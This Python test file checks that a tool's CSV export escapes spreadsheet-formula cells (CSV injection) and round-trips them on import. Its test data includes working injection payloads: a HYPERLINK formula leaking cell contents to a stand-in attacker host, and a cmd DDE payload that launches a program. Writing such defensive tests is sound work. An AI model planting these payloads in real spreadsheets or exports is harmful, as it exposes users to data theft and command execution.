"""CSV export neutralises cells a spreadsheet would run as formulas (CSV injection), and reading
rankterm's own CSV back undoes exactly that, so export then import stays lossless."""

from __future__ import annotations

import csv
import io

import pytest

from rankterm.core.model import Choice, Judgment, Pair
from rankterm.formats import FORMATS, ImportReader
from rankterm.formats.csvmap import neutralise, restore
from rankterm.formats.transfer import run_export
from rankterm.labels import Keep, LabelOptions, LabelPolicy
from rankterm.storage.journal import replay

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
]
SAFE = ["-1.5", "+3", "1e-3", "plain text", "", "'just a quote", "a=b"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_quote_and_come_back(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", SAFE)
def test_other_cells_are_written_as_they_are(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_csv_export_has_no_cell_starting_a_formula_and_round_trips(tmp_path):
    pairs = [
        Pair(
            id=f"=id{i}",
            prompt=text,
            response_a=text,
            response_b="-" + text,
            model_a="@model",
            metadata={"note": text},
            tags=["+tag"],
            priority=-1.5 if i == 0 else 0,
        )
        for i, text in enumerate(HOSTILE)
    ]
    judgments = [
        Judgment(pair_id=p.id, annotator="=ann", choice=Choice.A, strength=2, rationale="=1+1")
        for p in pairs
    ]
    out = io.BytesIO()
    policy = LabelPolicy(replay(judgments), LabelOptions(ties=Keep.KEEP, both_bad=Keep.KEEP))
    run_export(FORMATS["csv"], iter(pairs), policy, out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode())))
    for row in rows[1:]:
        for cell in row:
            bare = cell.lstrip("'")
            dangerous = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert not dangerous or cell == "-1.5", f"formula cell exported: {cell!r}"
            assert bare == cell or cell.startswith("'")
    path = tmp_path / "export.csv"
    path.write_bytes(out.getvalue())
    with ImportReader(path, "csv") as reader:
        back = list(reader)
    assert [item.pair for item in back] == pairs
    assert [item.label.rationale for item in back] == ["=1+1"] * len(pairs)
